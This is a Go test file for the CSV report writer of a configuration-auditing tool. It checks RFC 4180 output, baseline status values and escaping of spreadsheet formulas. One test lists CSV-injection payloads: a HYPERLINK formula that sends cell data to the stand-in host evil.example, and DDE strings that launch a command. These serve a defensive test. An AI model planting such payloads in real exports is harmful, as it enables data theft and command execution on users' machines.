package report

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/atlcheck/atlcheck/internal/model"
)

// readCSV parses a CSV report the way a strict RFC 4180 reader does.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(string(b)))
	r.FieldsPerRecord = len(csvHeader)
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not RFC 4180 CSV: %v\n%s", err, b)
	}
	return rows
}

func TestCSVOneRowPerFinding(t *testing.T) {
	run := fixtureRun()
	out := render(t, "csv", run)
	if !strings.HasSuffix(string(out), "\r\n") || strings.Count(string(out), "\n") != strings.Count(string(out), "\r\n") {
		t.Error("lines must end with CRLF (RFC 4180)")
	}
	rows := readCSV(t, out)
	if got, want := strings.Join(rows[0], ","), "policy,severity,title,resource,message,remediation,status,suppressed,reason,owner,ticket,expires,fingerprint,path"; got != want {
		t.Errorf("header %s, want %s", got, want)
	}
	if len(rows)-1 != len(run.Findings) {
		t.Fatalf("got %d rows, want one per finding (%d)", len(rows)-1, len(run.Findings))
	}
	for i, f := range run.Findings {
		row := rows[i+1]
		if row[0] != f.PolicyID || row[1] != f.Severity.String() || row[12] != f.Fingerprint {
			t.Errorf("row %d = %v, want %s %s %s", i+1, row, f.PolicyID, f.Severity, f.Fingerprint)
		}
	}
	supp := rows[5]
	if want := []string{"ATL-KEY-002", "medium", "API keys must expire", "key-legacy", "API key key-legacy never expires",
		"Fix ATL-KEY-002.", "suppressed", "true", "Legacy CI key, migration planned", "secops@example.com", "SEC-42",
		"2026-03-31", model.Fingerprint("ATL-KEY-002", "key-legacy"), "/x/ATL-KEY-002"}; strings.Join(supp, "|") != strings.Join(want, "|") {
		t.Errorf("suppressed row\n got %q\nwant %q", supp, want)
	}
	if rows[1][6] != "open" || rows[1][7] != "false" {
		t.Errorf("unsuppressed row status %q suppressed %q, want open false", rows[1][6], rows[1][7])
	}
}

func TestCSVBaselineStatus(t *testing.T) {
	run := fixtureRun()
	run.Baseline = &model.BaselineRef{Path: "last.json", New: 1, Unchanged: 1, Fixed: 1}
	run.Fixed = []model.Finding{{PolicyID: "ATL-TOK-002", Severity: model.SeverityHigh, Resource: "tok-1",
		Fingerprint: model.Fingerprint("ATL-TOK-002", "tok-1"), BaselineState: model.BaselineAbsent}}
	rows := readCSV(t, render(t, "csv", run))
	status := map[string]string{}
	for _, r := range rows[1:] {
		status[r[0]+" "+r[3]] = r[6]
	}
	for key, want := range map[string]string{"ATL-AAS-002 gmail.com": "unchanged", "ATL-KEY-001 clé-🔑-ключ": "new",
		"ATL-TOK-002 tok-1": "fixed", "ATL-KEY-002 key-legacy": "suppressed"} {
		if status[key] != want {
			t.Errorf("%s: status %q, want %q", key, status[key], want)
		}
	}
}

// TestCSVFormulaInjection feeds the payloads of OWASP's "CSV Injection" page
// through every column a hostile org controls and checks that no cell a
// spreadsheet reads starts a formula, while the value stays readable.
func TestCSVFormulaInjection(t *testing.T) {
	payloads := []string{
		`=HYPERLINK("https://evil.example/?x="&A1,"click")`,
		`=cmd|' /C calc'!A0`,
		`+1+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+9)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		"\n=1+1",
		"  =1+1",
		"\uFF1D1+1", // full-width equals sign
		`"=1+1"`,
		`a,b"c` + "\r\nd",
	}
	for _, p := range payloads {
		run := fixtureRun()
		f := &run.Findings[0]
		f.Resource, f.Message, f.Title, f.Remediation = p, p, p, p
		run.Findings[4].Suppression.Reason, run.Findings[4].Suppression.Owner = p, p
		rows := readCSV(t, render(t, "csv", run))
		for _, row := range rows[1:] {
			for col, cell := range row {
				if first := strings.TrimLeft(cell, " \t\r\n"); first != "" && strings.ContainsRune(formulaStart, []rune(first)[0]) {
					t.Errorf("payload %q: column %s = %q starts a formula", p, csvHeader[col], cell)
				}
				if strings.ContainsAny(cell, "\r\n\t") {
					t.Errorf("payload %q: column %s = %q holds a raw control character", p, csvHeader[col], cell)
				}
			}
		}
		if got := rows[1][3]; strings.TrimPrefix(got, "'") != quoteControl(p) {
			t.Errorf("payload %q: resource cell %q lost the value", p, got)
		}
	}
}

func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"gmail.com", "gmail.com"},
		{"=1+1", "'=1+1"},
		{"-1", "'-1"},
		{"@x", "'@x"},
		{" +x", "' +x"},
		{"\t=x", `'\t=x`},
		{"a=b", "a=b"},
		{"", ""},
		{"https://acme.atlassian.net#com.vendor.app", "https://acme.atlassian.net#com.vendor.app"},
	}
	for _, tt := range tests {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
